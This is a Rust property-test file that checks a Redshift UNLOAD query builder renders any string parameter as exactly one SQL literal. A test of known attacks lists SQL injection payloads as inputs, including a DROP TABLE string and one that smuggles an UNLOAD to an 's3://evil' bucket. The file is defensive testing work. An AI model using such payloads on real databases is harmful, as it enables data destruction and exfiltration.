//! The security property of the SQL literal renderer: for any string value, the UNLOAD the
//! worker builds, decoded the way Redshift decodes it (the UNLOAD literal first, then the
//! SELECT inside it), contains that exact value as one literal and nothing else changes.
//! The decoding is done by `redshift-data-local`, an independent implementation of
//! Redshift's lexical rules (backslash escapes, doubled quotes, comments, casts).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;

use proptest::prelude::*;
use redshift_data_local::sqltext::{Token, tokenize};
use redshift_data_local::unload::parse::parse_unload;
use redshift_export_worker::config::RedshiftSettings;
use redshift_export_worker::message::{Format, Layout};
use redshift_export_worker::template::TemplateSpec;
use redshift_export_worker::unload;
use serde_json::{Value, json};

const TEMPLATE: &str =
    "SELECT a, 'fixed' AS f FROM t WHERE a = :v AND b::text <> :v -- :v\n AND c = 1";

fn template() -> TemplateSpec {
    serde_json::from_value(json!({"sql": TEMPLATE, "params": {"v": {"type": "string"}}})).unwrap()
}

fn redshift() -> RedshiftSettings {
    serde_json::from_value(json!({"cluster_identifier": "c", "database": "dev"})).unwrap()
}

/// Tokens without positions.
fn tokens(sql: &str) -> Vec<Token> {
    tokenize(sql)
        .unwrap()
        .into_iter()
        .map(|t| t.token)
        .collect()
}

fn check(value: &str) -> Result<(), TestCaseError> {
    let select = template()
        .render(&BTreeMap::from([(
            "v".to_string(),
            Value::String(value.into()),
        )]))
        .unwrap();
    let sql = unload::build(
        &select,
        Format::Csv,
        Layout::Single,
        &redshift(),
        "exports-upload",
        "unload/r/1/",
    );
    let spec = parse_unload(&sql).map_err(|e| TestCaseError::fail(format!("{e}: {sql}")))?;
    prop_assert_eq!(&spec.bucket, "exports-upload");
    prop_assert_eq!(&spec.prefix, "unload/r/1/");
    prop_assert!(spec.manifest && spec.manifest_verbose);
    // The SELECT Redshift runs is the template with each placeholder replaced by exactly one
    // literal holding exactly the value.
    let expected: Vec<Token> = tokens(TEMPLATE)
        .into_iter()
        .map(|t| match t {
            Token::Placeholder(_) => Token::Literal(value.to_string()),
            other => other,
        })
        .collect();
    prop_assert_eq!(tokens(&spec.select), expected);
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3000))]

    #[test]
    fn any_string_is_one_exact_literal(value in any::<String>().prop_filter("NUL is rejected", |s| !s.contains('\0'))) {
        check(&value)?;
    }

    #[test]
    fn quote_heavy_strings_are_one_exact_literal(value in "[\\\\'\"$;:/*()\\-\n\r\t a-zA-Z0-9é🌸]{0,48}") {
        check(&value)?;
    }
}

#[test]
fn known_attacks_are_literals() {
    for value in [
        "'",
        "\\",
        "\\'",
        "''",
        "'); DROP TABLE t; --",
        "\\'); UNLOAD ('select 1') TO 's3://evil/x' IAM_ROLE default; --",
        "x' OR '1'='1",
        "$$ select 1 $$",
        "/* */",
        "-- comment",
        ":v",
        "::int",
    ] {
        check(value).unwrap();
    }
}

#[test]
fn nul_is_rejected_not_rendered() {
    let e = template()
        .render(&BTreeMap::from([(
            "v".to_string(),
            Value::String("a\0b".into()),
        )]))
        .unwrap_err();
    assert_eq!(e.code, "invalid_parameter");
}
